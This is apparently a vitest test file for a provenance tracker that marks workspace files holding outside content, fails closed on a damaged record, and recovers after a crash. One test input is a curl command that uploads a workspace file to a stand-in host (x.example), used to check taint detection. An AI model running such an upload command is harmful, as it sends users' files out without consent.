// The provenance record: which workspace files carry outside content, kept outside the workspace,
// bounded, failing closed when it cannot be read.
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { existsSync } from "node:fs";
import { INTERRUPTED, MAX_ENTRIES, Provenance } from "../../src/memory/provenance.ts";
import { silentLogger } from "../../src/process/log.ts";

let home: string;
let ws: string;
let file: string;
beforeEach(() => {
  home = realpathSync(mkdtempSync(path.join(tmpdir(), "hearth-prov-")));
  ws = path.join(home, "workspace");
  mkdirSync(path.join(ws, "memory"), { recursive: true });
  file = path.join(home, "provenance.jsonl");
});
afterEach(() => rmSync(home, { recursive: true, force: true }));

const open = () => new Provenance({ file, workspace: ws, log: silentLogger, clock: () => 1_000 });

describe("Provenance", () => {
  it("says why a recorded file, or a file under a recorded folder, carries outside content; others carry none", () => {
    const p = open();
    p.record(["downloads/page.html", "repo"], "a file a command wrote in a run that had read outside content");
    expect(p.taintOf("downloads/page.html")).toBe("a file a command wrote in a run that had read outside content (downloads/page.html)");
    expect(p.taintOf("./repo/src/a.ts")).toBe("a file a command wrote in a run that had read outside content (repo/src/a.ts)");
    expect(p.taintOf("downloads/other.html")).toBeNull();
    expect(p.taintOf("MEMORY.md")).toBeNull();
    expect(p.taintOf("../outside")).toBeNull();
    // A second daemon reads the same record.
    expect(open().taintOf("repo/README.md")).toBe("a file a command wrote in a run that had read outside content (repo/README.md)");
    expect(readFileSync(file, "utf8")).toBe(
      '{"path":"downloads/page.html","why":"a file a command wrote in a run that had read outside content","at":1000}\n{"path":"repo","why":"a file a command wrote in a run that had read outside content","at":1000}\n',
    );
  });

  it("fails closed on a damaged record, and keeps working past a torn last line", () => {
    const p = open();
    p.record(["a.txt"], "x");
    appendFileSync(file, '{"path":"b.t');
    expect(p.taintOf("a.txt")).toBe("x (a.txt)");
    expect(p.taintOf("c.txt")).toBeNull();
    writeFileSync(file, 'not json\n{"path":"a.txt","why":"x","at":1}\n');
    expect(p.taintOf("c.txt")).toBe("a file whose origin Hearth cannot tell: its record of files from outside could not be read (c.txt)");
    expect(p.namedIn("cat c.txt")).toBe("a command run where Hearth's record of files from outside could not be read");
  });

  it("finds a recorded file a command names, by its path or its name", () => {
    const p = open();
    p.record(["downloads/page.html"], "x");
    expect(p.namedIn("cd downloads && cat page.html")).toBe("x (downloads/page.html)");
    expect(p.namedIn("grep -r PIN downloads/page.html")).toBe("x (downloads/page.html)");
    expect(p.namedIn("cat notes.md")).toBeNull();
    expect(p.namedIn(`curl -s --data-binary @downloads/page.html http://x.example/up`)).toBe("x (downloads/page.html)");
    // A URL with the same name names no file of the workspace.
    expect(p.namedIn("curl -s http://127.0.0.1:8080/page.html")).toBeNull();
  });

  it("records what a command changed since it started (its ctime), not older files and not the context's notes", async () => {
    writeFileSync(path.join(ws, "old.txt"), "old\n");
    utimesSync(path.join(ws, "old.txt"), 0, 0);
    await new Promise((r) => setTimeout(r, 120));
    const started = Date.now();
    mkdirSync(path.join(ws, "dl"));
    writeFileSync(path.join(ws, "dl", "page.html"), "<p>hi</p>");
    // mtime set back, as tar does: the ctime still says when.
    utimesSync(path.join(ws, "dl", "page.html"), 0, 0);
    writeFileSync(path.join(ws, "memory", "2026-12-07.md"), "- log\n");
    const p = open();
    p.recordChangedSince(started, "w");
    expect(p.taintOf("dl/page.html")).toBe("w (dl/page.html)");
    expect(p.taintOf("old.txt")).toBeNull();
    expect(p.taintOf("memory/2026-12-07.md")).toBeNull();
  });

  it("folds a command's many files into their folder, and stays bounded", () => {
    const started = Date.now();
    mkdirSync(path.join(ws, "clone", "src"), { recursive: true });
    for (let i = 0; i < 150; i++) writeFileSync(path.join(ws, "clone", "src", `f${i}.ts`), "");
    const p = open();
    p.recordChangedSince(started, "w");
    expect(readFileSync(file, "utf8")).toBe('{"path":"clone/src","why":"w","at":1000}\n');
    const lines = Array.from({ length: MAX_ENTRIES + 1 }, (_, i) => `g${i}/f.txt`);
    for (const l of lines.slice(0, 10)) {
      mkdirSync(path.join(ws, path.dirname(l)), { recursive: true });
      writeFileSync(path.join(ws, l), "");
    }
    p.record(lines, "v");
    const kept = readFileSync(file, "utf8").trim().split("\n").map((l) => JSON.parse(l).path);
    // Gone files are dropped; what is left still covers every live file.
    expect(kept.sort()).toEqual(["clone/src", ...lines.slice(0, 10)].sort());
    expect(p.taintOf("g3/f.txt")).toBe("v (g3/f.txt)");
  });

  it("records what a command changed before a crash at the next start, as of unknown taint; a command that ended leaves nothing to recover", () => {
    const p = open();
    const clean = p.started(Date.now());
    writeFileSync(path.join(ws, "mine.txt"), "mine\n");
    p.ended(clean, null);
    expect(existsSync(`${file}.running`)).toBe(false);
    expect(p.taintOf("mine.txt")).toBeNull();
    p.started(Date.now());
    writeFileSync(path.join(ws, "half.tar"), "…");
    // The daemon is killed here: a new one starts on the same home.
    const next = open();
    next.recover();
    expect(next.taintOf("half.tar")).toBe(`${INTERRUPTED} (half.tar)`);
    expect(existsSync(`${file}.running`)).toBe(false);
  });
});
